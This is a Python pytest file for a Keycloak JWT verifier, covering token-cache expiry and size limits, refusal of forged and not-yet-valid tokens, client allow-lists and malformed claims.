async def test_cache_entry_never_outlives_exp(issuer: TestIssuer, clock: FrozenClock) -> None:
    async with issuer.auth(clock_skew=0, token_cache_ttl=3600) as auth:
        token = issuer.token(lifetime=60)
        await auth.verify(token)
        clock.advance(58)
        await auth.verify(token)
        clock.advance(3)
        await refused(auth, token)


async def test_cache_entry_never_outlives_its_ttl(
    issuer: TestIssuer, clock: FrozenClock, signature_checks: list[bool]
) -> None:
    async with issuer.auth(token_cache_ttl=10) as auth:
        token = issuer.token()
        await auth.verify(token)
        clock.advance(9)
        await auth.verify(token)
        assert len(signature_checks) == 1
        clock.advance(2)
        await auth.verify(token)
        assert len(signature_checks) == 2


async def test_cache_size_zero_disables_the_cache(issuer: TestIssuer, signature_checks: list[bool]) -> None:
    async with issuer.auth(token_cache_size=0) as auth:
        token = issuer.token()
        for _ in range(3):
            await auth.verify(token)
    assert len(signature_checks) == 3


async def test_cache_size_is_bounded(issuer: TestIssuer, signature_checks: list[bool]) -> None:
    size, count = 3, 10
    async with issuer.auth(token_cache_size=size) as auth:
        tokens = [issuer.token() for _ in range(count)]
        for token in tokens:
            await auth.verify(token)
        for token in tokens:
            await auth.verify(token)
    assert len(signature_checks) >= 2 * count - size


async def test_invalid_tokens_are_never_cached(
    issuer: TestIssuer, auth: KeycloakAuth, clock: FrozenClock, signature_checks: list[bool]
) -> None:
    h, p, s = issuer.token().split(".")
    forged = f"{h}.{p}.{s[:-8]}AAAAAAAA"
    for _ in range(3):
        await refused(auth, forged)
    assert signature_checks == [False, False, False]
    early = issuer.token(nbf=clock.now + 120)
    await refused(auth, early)
    clock.advance(120)
    await auth.verify(early)


@pytest.mark.parametrize("azp", ["", 7, OMIT])
async def test_allow_list_and_principal_name_the_same_caller(issuer: TestIssuer, azp: Any) -> None:
    """One rule for the calling client: ``azp`` when a non-empty string, else ``client_id``."""
    token = issuer.token(azp=azp, client_id="machine-c")
    async with issuer.auth(allowed_clients=("machine-c",)) as auth:
        assert (await auth.verify(token)).client_id == "machine-c"
    async with issuer.auth(allowed_clients=("machine-a",)) as auth:
        await refused(auth, issuer.token(azp=azp, client_id="machine-c"))


async def test_lone_surrogate_in_a_claim_is_refused(issuer: TestIssuer, auth: KeycloakAuth) -> None:
    """Echoed back, ``"\\ud800"`` would make the JSON response fail (a 500): RFC 8259 §8.2."""
    payload = json.dumps(issuer.claims()).encode()[:-1] + rb', "name": "\ud800"}'
    await refused(auth, issuer.sign(payload))


async def test_the_principal_realm_is_worked_out_once_per_issuer(
    issuer: TestIssuer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The key set knows its realm: a new token costs no parsing of its issuer URL."""
    async with issuer.auth(server_url="http://keycloak.test", realm="test") as auth:
        calls: list[str] = []
        monkeypatch.setattr(KeycloakSettings, "realm_of", lambda _, issuer: calls.append(issuer))
        principal = await auth.verify(issuer.token())
    assert (principal.realm, calls) == ("test", [])
